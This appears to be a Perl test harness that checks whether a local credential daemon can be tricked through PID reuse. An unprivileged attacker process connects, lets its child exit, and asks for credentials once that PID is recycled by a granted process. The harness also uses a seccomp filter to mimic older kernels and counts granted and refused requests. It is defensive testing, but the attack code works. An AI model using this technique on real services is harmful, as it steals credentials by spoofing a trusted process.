# An attacker without a grant who has the number of its process given to one that has a grant, while its connection is
# open. Run by a copy of perl that is granted everything, as the first process of a process namespace of its own:
#
#   recycle.pl DAEMON CONFIG SOCKET TRIES NAME...
#
# It starts the daemon and, as the user nobody and by the ordinary perl, the attacker. For each try the attacker opens a
# socket, has a child connect it and end, and asks by it once the child's number is that of a child of the granted perl:
# root's part in this is only to make it come at once. Prints what came of it, as `WORD=COUNT`.
#
# With OLD_KERNEL in its environment, the daemon is told that there is no SO_PEERPIDFD, as on Linux before 6.5.
use strict;
use warnings;
use Socket;
use POSIX ();

$| = 1;
$^F = 255;    # What is opened is passed on.
exit attack(@ARGV[1 .. $#ARGV]) if $ARGV[0] eq 'attack';
my ($daemon, $config, $socket, $tries, @names) = @ARGV;

sub ask {
    my ($stream, $path) = @_;
    send($stream, "GET $path HTTP/1.1\r\nHost: k\r\nConnection: close\r\n\r\n", MSG_NOSIGNAL);
}

# The status, as far as there is an answer.
sub answer {
    my ($stream) = @_;
    my $text = '';
    vec(my $readable = '', fileno($stream), 1) = 1;
    while (select(my $now = $readable, undef, undef, 20)) {
        last unless sysread($stream, $text, 8192, length $text);
    }
    return $text =~ m{^HTTP/1.1 (\d+)} ? $1 : 'none';
}

sub opened {
    socket(my $stream, AF_UNIX, SOCK_STREAM, 0) or die "socket: $!";
    return $stream;
}

# --- The granted one.

my %count = (recycled => 0, missed => 0, granted => 0, refused => 0, unanswered => 0, control => 0);
my $running = fork // die;
if (!$running) {
    be_old() if $ENV{OLD_KERNEL};
    exec $daemon, '--config', $config or die;
}

# Has getsockopt(SOL_SOCKET, SO_PEERPIDFD) fail with ENOPROTOOPT, by a filter of system calls (seccomp(2)).
sub be_old {
    my ($getsockopt, $prctl) = `uname -m` eq "aarch64\n" ? (209, 167) : (55, 157);
    my ($load, $unless, $return, $allow) = (0x20, 0x15, 0x06, 0x7fff0000);
    # Number of the call, low halves of its second and third argument.
    my @filter = ([$load, 0, 0, 0], [$unless, 0, 5, $getsockopt], [$load, 0, 0, 24], [$unless, 0, 3, 1],
        [$load, 0, 0, 32], [$unless, 0, 1, 77], [$return, 0, 0, 0x50000 | 92], [$return, 0, 0, $allow]);
    my $code = join '', map { pack 'SCCL', @$_ } @filter;
    my $program = pack 'Sx6P', scalar @filter, $code;
    # PR_SET_SECCOMP, SECCOMP_MODE_FILTER.
    syscall($prctl, 22, 2, $program) == 0 or die "seccomp: $!";
}

# With a grant of one's own there is an answer, before, in between and after.
sub control {
    for my $name (@names) {
        for my $patience (0 .. 600) {
            my $stream = opened();
            if (connect($stream, pack_sockaddr_un($socket))) {
                ask($stream, "/v1/credentials/$name");
                if (answer($stream) eq '200') { $count{control}++; last }
            }
            die "$name is not handed out to the granted perl" if $patience == 600;
            select(undef, undef, undef, 0.1);
        }
    }
}
control();

pipe(my $hear, my $to_keeper) or die;
pipe(my $to_attacker, my $tell) or die;
my $attacker = fork // die;
if (!$attacker) {
    close $hear;
    close $tell;
    $) = '65534 65534';
    $( = 65534;
    $< = $> = 65534;
    die 'still root' if $< == 0 || $> == 0;
    exec '/usr/bin/perl', $0, 'attack', fileno($to_attacker), fileno($to_keeper), $socket, $tries, @names or die;
}
close $to_keeper;
close $to_attacker;
my $own = readlink '/proc/self/exe';
while (sysread($hear, my $word, 64)) {
    my ($pid) = $word =~ /^(\d+)$/ or die "heard $word";
    open(my $last, '>', '/proc/sys/kernel/ns_last_pid') or die "ns_last_pid: $!";
    syswrite($last, $pid - 1);
    close $last;
    my $child = fork // die;
    if (!$child) { select(undef, undef, undef, 60); POSIX::_exit(0) }
    my $is_other = $child == $pid && readlink("/proc/$pid/exe") eq $own;
    $count{ $is_other ? 'recycled' : 'missed' }++;
    syswrite($tell, "go\n");
    sysread($hear, my $status, 64) or die 'the attacker has ended';
    chomp $status;
    $count{ $status eq '200' ? 'granted' : $status eq '404' ? 'refused' : 'unanswered' }++;
    kill 'KILL', $child;
    waitpid $child, 0;
    control() if ($count{recycled} + $count{missed}) % 1000 == 0;
    syswrite($tell, "next\n");
}
waitpid $attacker, 0;
control();
kill 'TERM', $running;
waitpid $running, 0;
print "$_=$count{$_}\n" for sort keys %count;

# --- The attacker.

sub attack {
    my ($from, $to, $socket, $tries, @names) = @_;
    open(my $hear, '<&=', $from) or die;
    open(my $tell, '>&=', $to) or die;
    for my $try (1 .. $tries) {
        my $stream = opened();
        my $path = '/v1/credentials/' . $names[$try % @names];
        # Asks when its number is another's; before it ends, so that the daemon is looking at it then; or by a connection
        # that was in use already.
        my $way = int($try / @names) % 3;
        my $child = fork // die;
        if (!$child) {
            connect($stream, pack_sockaddr_un($socket)) or die "connect: $!";
            if ($way == 1) {
                ask($stream, $path);
                select(undef, undef, undef, rand 0.0005) if $try % 2;
            }
            elsif ($way == 2) {
                send($stream, "GET /v1/health HTTP/1.1\r\nHost: k\r\n\r\n", MSG_NOSIGNAL);
                sysread($stream, my $some, 4096);
            }
            POSIX::_exit(0);
        }
        waitpid $child, 0;
        syswrite($tell, "$child\n");
        sysread($hear, my $go, 64) or die;
        ask($stream, $path) if $way != 1;
        syswrite($tell, answer($stream) . "\n");
        close $stream;
        sysread($hear, my $next, 64) or die;
    }
    return 0;
}
